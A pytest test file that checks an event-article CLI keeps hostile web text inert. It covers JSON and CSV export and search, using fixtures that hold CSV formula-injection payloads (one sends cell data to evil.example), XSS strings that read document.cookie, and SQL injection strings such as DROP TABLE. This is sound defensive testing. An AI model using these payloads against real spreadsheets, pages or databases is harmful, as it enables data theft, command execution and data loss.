"""Hostile text: articles written to attack the reader's tools must stay plain data.

Article text, titles and URLs come from anyone on the web. They must reach the user as the raw
text (JSON), never as a spreadsheet formula (CSV), and words typed into search or filters must
never be read as SQL or FTS syntax. Everything goes through the real CLI and a real SQLite store;
no pipeline model is loaded (ingest and export do not need one).
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path

import pytest
from typer.testing import CliRunner

from eventdesk.cli import app
from eventdesk.export import csv_safe, write_csv

runner = CliRunner()

SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
HOSTILE = [
    {
        "id": "h-formula",
        "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "text": "=cmd|' /C calc'!A0 and then the real story about protests in Lagos.",
        "url": "https://evil.example/a?x=<script>",
        "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    },
    {
        "id": "h-script",
        "title": SCRIPT,
        "text": f"Police said {SCRIPT} nothing else happened in Kabul on Monday.",
        "url": "javascript:alert(document.cookie)",
        "source": "+1-555-0100",
    },
    {
        "id": "h-sql",
        "title": "Robert'); DROP TABLE articles;--",
        "text": "-2 degrees in Kyiv; ' OR 1=1 -- was written on a wall, officials said.",
        "source": "\t=1+1",
    },
]

INJECTIONS = [
    "' OR 1=1 --",
    '"; DROP TABLE articles; --',
    "Lagos' UNION SELECT id, text, 1, 1, 1 FROM articles --",
    'NEAR(protests Lagos, 2)',
    "text:Kabul",
    '"unbalanced',
    "* OR *",
    "Kabul AND NOT Kyiv",
    "%",
    "_",
    "\\",
    "\x00",
    "')) OR (('1'='1",
]


def _invoke(*args: str, input: str | None = None):
    return runner.invoke(app, list(args), input=input)


@pytest.fixture
def hostile_store(tmp_path: Path) -> tuple[str, Path]:
    feed = tmp_path / "hostile.jsonl"
    feed.write_text("".join(json.dumps(r) + "\n" for r in HOSTILE), encoding="utf-8")
    db = tmp_path / "hostile.db"
    res = _invoke("ingest", str(feed), "--db", f"sqlite:///{db}", "--quiet")
    assert res.exit_code == 0, res.output
    return f"sqlite:///{db}", db


def _article_rows(db: Path) -> list[tuple]:
    with sqlite3.connect(db) as conn:
        sql = "SELECT id, title, text, url, source FROM articles ORDER BY seq"
        return conn.execute(sql).fetchall()


def test_json_export_carries_the_raw_text(hostile_store: tuple[str, Path]) -> None:
    url, _ = hostile_store
    res = _invoke("export", "articles", "--db", url)
    assert res.exit_code == 0, res.output
    got = {r["id"]: r for r in map(json.loads, res.stdout.splitlines())}
    for rec in HOSTILE:
        assert got[rec["id"]]["title"] == rec["title"]
        assert rec["text"] in got[rec["id"]]["text"]  # raw, not escaped or stripped
        assert got[rec["id"]]["source"] == rec["source"].strip()


def test_csv_export_neutralises_formulas(hostile_store: tuple[str, Path], tmp_path: Path) -> None:
    url, _ = hostile_store
    out = tmp_path / "articles.csv"
    res = _invoke("export", "articles", "-f", "csv", "-o", str(out), "--db", url)
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    header, body = rows[0], rows[1:]
    by_id = {dict(zip(header, r, strict=False))["id"]: dict(zip(header, r, strict=False))
             for r in body}
    # The text is all there, behind one quote: nothing is lost, nothing runs.
    assert by_id["h-formula"]["title"] == "'" + HOSTILE[0]["title"]
    assert by_id["h-script"]["title"] == SCRIPT  # HTML is inert in CSV: left as written


def test_csv_safe_leaves_numbers_and_plain_text_alone() -> None:
    assert csv_safe(-3.5) == -3.5
    assert csv_safe(-2) == -2
    assert csv_safe("Lagos") == "Lagos"
    assert csv_safe("") == ""
    assert csv_safe(None) is None
    assert csv_safe("-2 degrees") == "'-2 degrees"
    buf = io.StringIO()
    write_csv([{"a": "=1+1", "nested": {"b": "@x"}, "list": ["=y"]}], buf)
    lines = buf.getvalue().splitlines()
    assert lines[1].split(",")[0] == "'=1+1"
    assert "'@x" in lines[1]


@pytest.mark.parametrize("query", INJECTIONS)
def test_search_terms_cannot_inject_sql(hostile_store: tuple[str, Path], query: str) -> None:
    url, db = hostile_store
    before = _article_rows(db)
    res = _invoke("search", query, "--db", url)
    assert res.exit_code == 0, res.output
    hits = [json.loads(x) for x in res.stdout.splitlines()]
    # Words are matched as words: a tautology or UNION finds exactly the articles holding its
    # words, never "every row".
    words = {w.lower() for w in re.findall(r"\w+", query)}
    expected = {
        r["id"]
        for r in HOSTILE
        if words and words <= {w.lower() for w in re.findall(r"\w+", r["title"] + " " + r["text"])}
    }
    assert {h["article_id"] for h in hits} == expected
    for hit in hits:
        assert set(hit) == {"article_id", "title", "published", "source", "snippet"}
    assert _article_rows(db) == before
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert {r[0] for r in conn.execute("SELECT name FROM sqlite_master")} >= {"articles"}


def test_tautology_matches_only_the_article_holding_its_words(
    hostile_store: tuple[str, Path],
) -> None:
    url, _ = hostile_store
    res = _invoke("search", "' OR 1=1 --", "--db", url)
    assert res.exit_code == 0, res.output
    ids = [json.loads(x)["article_id"] for x in res.stdout.splitlines()]
    assert ids == ["h-sql"]  # the one article whose text says "OR 1=1"
    res = _invoke("search", '"; DROP TABLE articles; --', "--db", url)
    assert [json.loads(x)["article_id"] for x in res.stdout.splitlines()] == ["h-sql"]
